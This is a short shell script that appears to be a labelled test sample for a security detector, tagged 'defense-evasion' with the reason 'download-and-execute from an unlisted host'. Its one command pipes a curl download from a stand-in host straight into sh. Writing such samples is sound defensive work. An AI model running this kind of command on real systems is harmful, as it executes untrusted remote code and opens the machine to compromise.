#!/bin/sh
# expect: defense-evasion
# why: download-and-execute from an unlisted host
curl -s -m 3 https://get.rogue.test/install.sh | sh
true
